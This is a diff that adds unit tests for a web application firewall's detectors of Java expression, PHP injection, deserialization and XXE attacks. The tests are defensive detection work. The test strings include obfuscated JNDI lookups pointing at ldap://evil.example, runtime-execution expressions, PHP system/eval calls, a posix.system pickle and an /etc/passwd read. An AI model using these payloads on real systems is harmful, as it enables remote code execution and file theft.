@@ -1,0 +1,164 @@
+// Java, PHP and serialised objects: other spellings of one attack stay attacks, look-alikes pass.
+#include <gtest/gtest.h>
+
+#include "detect/analyze/deserialization.h"
+#include "detect/analyze/java_expression.h"
+#include "detect/analyze/php_injection.h"
+#include "detect/analyze/xxe.h"
+#include "tests/detect/analyze/analyze_support.h"
+
+namespace wafd::detect {
+namespace {
+
+std::string base64(std::string_view text) {
+  constexpr std::string_view kDigits = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+  std::string out;
+  std::uint32_t bits = 0;
+  unsigned have = 0;
+  for (const char c : text) {
+    bits = bits << 8 | static_cast<unsigned char>(c);
+    for (have += 8; have >= 6;) {
+      have -= 6;
+      out.push_back(kDigits[bits >> have & 0x3f]);
+    }
+  }
+  if (have > 0) out.push_back(kDigits[bits << (6 - have) & 0x3f]);
+  return out;
+}
+
+TEST(ServerVariations, ClassNamesInBase64AtEveryAlignment) {
+  const auto analyzer = make_java_expression_analyzer();
+  for (const char* name :
+       {"InvokerTransformer", "invokertransformer", "TemplatesImpl", "ProcessBuilder", "forclosure"}) {
+    for (std::size_t before = 0; before < 6; ++before) {
+      const std::string text = base64(std::string(before, '\x01') + name + "\x02\x03");
+      for (std::size_t cut = 0; cut <= before * 8 / 6; ++cut)
+        EXPECT_EQ(verdict_of(*analyzer, text.substr(cut)), "balanced") << name << ' ' << before << ' ' << cut;
+    }
+  }
+  EXPECT_EQ(verdict_of(*analyzer, base64("the runtime of a transformer and its closure")), "-");
+}
+
+TEST(ServerVariations, JndiInNestedLookups) {
+  const auto analyzer = make_java_expression_analyzer();
+  const auto letter = [](Dice& dice, char c) -> std::string {
+    switch (dice.roll(6)) {
+      case 0:
+        return std::string("${lower:") + static_cast<char>(c - 32) + "}";
+      case 1:
+        return std::string("${::-") + c + "}";
+      case 2:
+        return std::string("${env:NONE:-") + c + "}";
+      case 3:
+        return std::string("${date:'") + c + "'}";
+      case 4:
+        return std::string("${upper:${lower:") + c + "}}";
+      default:
+        return std::string(1, c);
+    }
+  };
+  Dice dice(5);
+  for (int made = 0; made < 500; ++made) {
+    std::string text = "${";
+    for (const char c : std::string_view("jndi")) text += letter(dice, c);
+    text += dice.roll(2) == 0 ? ":ldap://evil.example/a}" : "${::-:}ldap://evil.example/a";
+    EXPECT_EQ(verdict_of(*analyzer, text), "low") << text;
+  }
+}
+
+TEST(ServerVariations, Java) {
+  const auto analyzer = make_java_expression_analyzer();
+  const std::pair<const char*, const char*> kRows[] = {
+      {"java.lang.String", "strict"},
+      {"java.evil.runtime", "strict"},
+      {"org.springframework.boot", "strict"},
+      {"org.apache.commons.collections.Transformer", "balanced"},
+      {"org.apache.commons:commons-lang3:3.12.0", "-"},
+      {"java.lang.NullPointerException", "-"},
+      {"java.net.example.com", "-"},
+      {"T(java.lang.Runtime).getRuntime()", "low"},
+      {"T(System).getenv()", "low"},
+      {"function T(e.t).x", "-"},
+      {"class['classLoader']", "low"},
+      {"top['class']['module'].x", "low"},
+      {"the class.of.2024", "-"},
+      {"${pageContext.request}", "balanced"},
+      {"@java.lang.Math@random()", "low"},
+      {"me@a.example and you@b.example", "-"},
+      {"div#container.container > a", "-"},
+      {"${A:-x} ${B:-y}", "-"},
+      {"${A:-${B:-c}}", "-"},
+      {"${price}", "-"},
+  };
+  for (const auto& [text, verdict] : kRows) EXPECT_EQ(verdict_of(*analyzer, text), verdict) << text;
+}
+
+TEST(ServerVariations, Php) {
+  const auto analyzer = make_php_injection_analyzer();
+  const std::pair<const char*, const char*> kRows[] = {
+      {"<?xml :echo 1;", "balanced"},
+      {"<?=1?>", "balanced"},
+      {"<?xml version=\"1.0\"?><a/>", "-"},
+      {"exec/**/('id')", "balanced"},
+      {"exec #c\n('id')", "balanced"},
+      {"array_map('system', $a)", "low"},
+      {"chr(115).chr(121)", "balanced"},
+      {"@$b('x')", "balanced"},
+      {"($y)('id')", "balanced"},
+      {"$o->$f()", "balanced"},
+      {"${'a'}", "balanced"},
+      {"$ {$a}", "strict"},
+      {"memory_limit = 512M", "balanced"},
+      {"engine=true", "strict"},
+      {"from=report", "-"},
+      {"engine=search", "-"},
+      {"substr()", "strict"},
+      {"Chrome(114.0.0.0)", "-"},
+      {"a:1:{i:0;s:1:\"a\";}", "-"},
+      {"phpinfo is a function of PHP", "-"},
+      {"Costs $5 (five), or about $six", "-"},
+  };
+  for (const auto& [text, verdict] : kRows) EXPECT_EQ(verdict_of(*analyzer, text), verdict) << text;
+}
+
+TEST(ServerVariations, PhpCallsInAnySpelling) {
+  const auto analyzer = make_php_injection_analyzer();
+  Dice dice(9);
+  constexpr const char* kGaps[] = {"", "/**/", "/* x */", "//x\n", "#x\n"};
+  for (const char* name : {"system", "passthru", "shell_exec", "eval", "assert"}) {
+    for (int made = 0; made < 100; ++made) {
+      std::string text;
+      for (const char* c = name; *c != '\0'; ++c)
+        text.push_back(dice.roll(2) == 0 && *c != '_' ? static_cast<char>(*c - 32) : *c);
+      text += std::string(kGaps[dice.roll(5)]) + "('id')";
+      EXPECT_TRUE(denied_at_balanced(verdict_of(*analyzer, text))) << text;
+    }
+  }
+}
+
+TEST(ServerVariations, SerialisedObjects) {
+  const auto analyzer = make_deserialization_analyzer();
+  const std::pair<std::string, const char*> kRows[] = {
+      {"cposix\nsystem\np0\n", "balanced"},
+      {std::string("\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93", 30),
+       "balanced"},
+      {base64(std::string(
+           "\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93", 30)),
+       "balanced"},
+      {"!!javax.script.ScriptEngineManager [x]", "balanced"},
+      {"{\"$type\":\"System.Collections.Generic.List`1\"}", "-"},
+      {"{\"$type\":\"System.Windows.Data.ObjectDataProvider\"}", "balanced"},
+      {"{\"@type\":\"Product\"}", "-"},
+      {"Wow!! java.lang is great", "-"},
+  };
+  for (const auto& [text, verdict] : kRows) EXPECT_EQ(verdict_of(*analyzer, text), verdict) << text;
+}
+
+TEST(ServerVariations, Stylesheets) {
+  const auto analyzer = make_xxe_analyzer();
+  EXPECT_EQ(verdict_of(*analyzer, "<xsl:value-of select=\"document('/etc/passwd')\"/>"), "balanced");
+  EXPECT_EQ(verdict_of(*analyzer, "<xsl:template match=\"/\"><b/></xsl:template>"), "-");
+}
+
+}  // namespace
+}  // namespace wafd::detect
